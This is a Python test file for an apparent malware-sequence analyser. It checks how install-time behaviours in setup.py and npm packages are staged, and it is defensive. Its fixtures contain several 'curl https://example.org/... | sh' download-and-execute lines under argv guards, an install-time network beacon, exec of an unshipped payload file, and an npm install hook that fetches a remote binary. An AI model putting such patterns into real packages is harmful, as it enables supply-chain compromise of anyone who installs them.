"""Ordinary setup.py and npm install habits that are not install-time code, and loaders of the package's
own files that are (issue 11, false alarms): where their steps land in the sequence."""

from __future__ import annotations

from pathlib import Path

from seq_helpers import folder_package, ids

from malseq._deadline import Deadline
from malseq.features import analyse_package
from malseq.sequence import BehaviourSequence, Stage, build_sequence


def _sequence(root: Path, files: dict[str, str]) -> BehaviourSequence:
    package = folder_package(root, files)
    return build_sequence(package, analyse_package(package, Deadline(60)), Deadline(60))


def _install_lines(seq: BehaviourSequence, behaviour: str) -> list[int]:
    return sorted(e.line for s in seq.steps if s.stage is Stage.INSTALL and s.behaviour == behaviour
                  for e in s.events)


GUARDED_SETUP = """\
import os
import sys
from setuptools import setup

if sys.argv[-1] == "publish":
    os.system("curl -s https://example.org/a | sh")
    sys.exit()

if "upload" in sys.argv and len(sys.argv) > 2:
    os.system("curl -s https://example.org/b | sh")

if sys.argv[-1] in ("tag", "release"):
    os.system("curl -s https://example.org/c | sh")

if sys.argv[-1] == "install":
    os.system("curl -s https://example.org/d | sh")

if sys.argv[1] in ("tag", "egg_info"):
    os.system("curl -s https://example.org/e | sh")

if sys.argv[-1] == "publish" or os.environ.get("CI"):
    os.system("curl -s https://example.org/f | sh")

setup(name="example")
"""


def test_code_under_a_publish_guard_is_not_install_time_but_guards_on_pip_commands_are(tmp_path: Path) -> None:
    seq = _sequence(tmp_path, {"setup.py": GUARDED_SETUP})
    # pip passes install/egg_info (lines 16, 19); `or` with anything else may run at install (line 22).
    assert _install_lines(seq, "download_and_execute") == [16, 19, 22]
    unreached = [e.line for s in seq.steps if s.stage is Stage.UNREACHED and s.behaviour == "download_and_execute"
                 for e in s.events]
    assert sorted(unreached) == [6, 10, 13]
    assert "setup_code_execution" in ids(seq, Stage.INSTALL)


def test_loaders_of_package_files_are_edges_into_them(tmp_path: Path) -> None:
    seq = _sequence(tmp_path, {
        "setup.py": (
            "import os\nimport runpy\nimport importlib.util\nfrom setuptools import setup\n"
            "here = os.path.abspath(os.path.dirname(__file__))\n"
            "about = {}\n"
            "with open(os.path.join(here, 'example', '__version__.py')) as f:\n"
            "    exec(f.read(), about)\n"
            "spec = importlib.util.spec_from_file_location('helper', os.path.join(here, 'example', 'helper.py'))\n"
            "helper = importlib.util.module_from_spec(spec)\n"
            "spec.loader.exec_module(helper)\n"
            "helper.beacon()\n"
            "runpy.run_path('tools/gen.py')\n"
            "setup(name='example', version=about['__version__'])\n"),
        "example/__init__.py": "",
        "example/__version__.py": "__version__ = '1.0'\n",
        "example/helper.py": ("import urllib.request\n"
                              "def beacon():\n"
                              "    urllib.request.urlopen('https://example.org/beacon')\n"),
        "tools/gen.py": "import socket\nsocket.gethostbyname('example.org')\n",
    })
    install = ids(seq, Stage.INSTALL)
    # The version file holds plain assignments: no evaluated code; the helper's function runs at
    # install where setup.py calls it, and run_path runs tools/gen.py's body there.
    assert "eval_code" not in ids(seq)
    assert "network_request" in install and "dns_lookup" in install
    assert install.index("network_request") < install.index("dns_lookup")
    assert not [s for s in seq.steps if s.stage is Stage.UNREACHED and s.file == "example/helper.py"]


def test_exec_of_a_file_the_package_does_not_ship_stays_evaluated_code(tmp_path: Path) -> None:
    seq = _sequence(tmp_path, {
        "setup.py": ("from setuptools import setup\n"
                     "exec(open('payload.py').read())\n"
                     "exec(open('data/blob.txt').read())\n"
                     "setup(name='example')\n"),
        "data/blob.txt": "x = 1\n",
    })
    assert _install_lines(seq, "eval_code") == [2, 3]


def test_npm_build_script_chained_with_node_still_runs_its_file(tmp_path: Path) -> None:
    seq = _sequence(tmp_path, {
        "package.json": ('{"name": "example", "version": "1.0.0", "scripts": '
                         '{"install": "node-gyp rebuild && node install.js"}}'),
        "install.js": "require('https').get('https://example.org/bin');\n",
    })
    install = ids(seq, Stage.INSTALL)
    assert "npm_install_script" in install and "network_request" in install


def test_npm_native_build_script_alone_is_no_install_hook(tmp_path: Path) -> None:
    seq = _sequence(tmp_path, {
        "package.json": ('{"name": "example", "version": "1.0.0", "main": "index.js", "scripts": '
                         '{"install": "prebuild-install || node-gyp rebuild"}}'),
        "index.js": "module.exports = 1;\n",
    })
    assert ids(seq, Stage.INSTALL) == []
